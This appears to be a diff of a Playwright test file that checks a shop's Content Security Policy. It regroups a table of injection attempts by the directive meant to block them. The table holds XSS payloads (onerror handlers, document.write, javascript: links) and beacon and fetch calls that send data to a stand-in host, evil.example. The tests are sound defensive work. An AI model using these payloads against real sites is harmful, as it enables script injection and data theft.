@@ -27,9 +27,9 @@ test('D2: the default build reaches an API on localhost, on 127.0.0.1, and from 
       await page.goto(`http://${host}:${port}/products?page=2`);
       await expect(page.getByRole('article').first()).toBeVisible();
       await expect(page).toHaveURL(`http://${moved}:${port}/products?page=2`);
-      await page.goto(`http://${host}:${port}/product/${line?.id}`);
-      await expect(page.getByRole('heading', { level: 1 })).toHaveText(line?.name ?? '');
-      await expect(page).toHaveURL(`http://${moved}:${port}/product/${line?.id}`);
+      await page.goto(`http://${host}:${port}/product/${line.id}`);
+      await expect(page.getByRole('heading', { level: 1 })).toHaveText(line.name);
+      await expect(page).toHaveURL(`http://${moved}:${port}/product/${line.id}`);
       await page.close();
     }
   } finally {
@@ -57,142 +57,76 @@ test('a host without headers: the shop shows nothing inside a page of another si
   await expect(frame.locator('body')).toHaveText('', { useInnerText: true });
 });
 
-interface Attack {
-  name: string;
-  /** The directive that stops it. */
-  directive: string;
-  run: () => unknown;
-}
-
-const ATTACKS: Attack[] = [
-  {
-    name: 'markup with a handler',
-    directive: 'require-trusted-types-for',
-    run: () => {
+/** Attacks by the directive that stops them. */
+const ATTACKS: Readonly<Record<string, Readonly<Record<string, () => unknown>>>> = {
+  'require-trusted-types-for': {
+    'markup with a handler': () => {
       document.body.innerHTML += '<img src="/none" onerror="window.executed = 1">';
     },
-  },
-  {
-    name: 'markup beside an element',
-    directive: 'require-trusted-types-for',
-    run: () =>
+    'markup beside an element': () =>
       document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.executed = 1">'),
-  },
-  {
-    name: 'markup of a parser',
-    directive: 'require-trusted-types-for',
-    run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
-  },
-  {
-    name: 'a written document',
-    directive: 'require-trusted-types-for',
-    run: () => document.write('<script>window.executed = 1</script>'),
-  },
-  {
-    name: 'a frame with its own document',
-    directive: 'require-trusted-types-for',
-    run: () => {
+    'markup of a parser': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+    'a written document': () => document.write('<script>window.executed = 1</script>'),
+    'a frame with its own document': () => {
       document.createElement('iframe').srcdoc = '<script>parent.executed = 1</script>';
     },
-  },
-  {
-    name: 'a script from elsewhere',
-    directive: 'require-trusted-types-for',
-    run: () => {
+    'a script from elsewhere': () => {
       document.createElement('script').src = 'https://evil.example/x.js';
     },
-  },
-  {
-    name: 'a script of text',
-    directive: 'require-trusted-types-for',
-    run: () => {
+    'a script of text': () => {
       document.createElement('script').textContent = 'window.executed = 1';
     },
-  },
-  {
-    name: 'a script of text nodes',
-    directive: 'require-trusted-types-for',
-    run: () => {
+    'a script of text nodes': () => {
       const script = document.createElement('script');
       script.append('window.executed = 1');
       document.body.append(script);
     },
+    'a handler in an attribute': () => document.body.setAttribute('onclick', 'window.executed = 1'),
+    'a worker': () => new Worker('data:text/javascript,postMessage(1)'),
   },
-  {
-    name: 'a handler in an attribute',
-    directive: 'require-trusted-types-for',
-    run: () => document.body.setAttribute('onclick', 'window.executed = 1'),
-  },
-  {
-    name: 'a worker',
-    directive: 'require-trusted-types-for',
-    run: () => new Worker('data:text/javascript,postMessage(1)'),
-  },
-  {
-    name: 'a default policy',
-    directive: 'trusted-types',
-    run: () =>
+  'trusted-types': {
+    'a default policy': () =>
       Object(Reflect.get(window, 'trustedTypes')).createPolicy('default', {
         createHTML: (html: string) => html,
       }),
   },
-  {
-    name: 'a module from elsewhere',
-    directive: 'script-src-elem',
-    run: () => {
+  'script-src-elem': {
+    'a module from elsewhere': () => {
       const link = document.createElement('link');
       document.head.append(Object.assign(link, { rel: 'modulepreload', href: 'https://evil.example/x.js' }));
     },
-  },
-  {
-    name: 'a link that runs script',
-    directive: 'script-src-elem',
-    run: () => {
+    'a link that runs script': () => {
       const link = document.createElement('a');
       link.href = 'javascript:window.executed = 1';
       document.body.append(link);
       link.click();
     },
   },
-  {
-    name: 'a style attribute',
-    directive: 'style-src-attr',
-    run: () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
+  'style-src-attr': {
+    'a style attribute': () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
   },
-  {
-    name: 'a sheet of style',
-    directive: 'style-src-elem',
-    run: () => {
+  'style-src-elem': {
+    'a sheet of style': () => {
       const style = document.createElement('style');
       style.textContent = 'body { background: url(https://evil.example/x) }';
       document.head.append(style);
     },
   },
-  {
-    name: 'another base',
-    directive: 'base-uri',
-    run: () => {
+  'base-uri': {
+    'another base': () => {
       document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
     },
   },
-  {
-    name: 'a request to elsewhere',
-    directive: 'connect-src',
-    run: () => fetch('https://evil.example/x').catch(() => {}),
+  'connect-src': {
+    'a request to elsewhere': () => fetch('https://evil.example/x').catch(() => {}),
+    'a beacon to elsewhere': () => navigator.sendBeacon('https://evil.example/x', 'token'),
   },
-  {
-    name: 'a beacon to elsewhere',
-    directive: 'connect-src',
-    run: () => navigator.sendBeacon('https://evil.example/x', 'token'),
-  },
-  {
-    name: 'a frame of elsewhere',
-    directive: 'frame-src',
-    run: () => {
+  'frame-src': {
+    'a frame of elsewhere': () => {
       document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
     },
   },
-];
+};
 
 test.describe('faults M14: an attack that got past the shop is stopped by the policy', () => {
   test('each of them, on a page of its own, with an error on the console', async ({ page, problems }) => {
@@ -203,7 +137,10 @@ test.describe('faults M14: an attack that got past the shop is stopped by the po
     });
     // The document has the policy: the attacks need nothing of the shop.
     await page.route('**/assets/**', (route) => route.abort());
-    for (const { name, directive, run } of ATTACKS) {
+    const attacks = Object.entries(ATTACKS).flatMap(([directive, all]) =>
+      Object.entries(all).map(([name, run]) => ({ name, directive, run })),
+    );
+    for (const { name, directive, run } of attacks) {
       await page.goto('/contact', { waitUntil: 'domcontentloaded' });
       const broken = page.evaluate(
         () =>
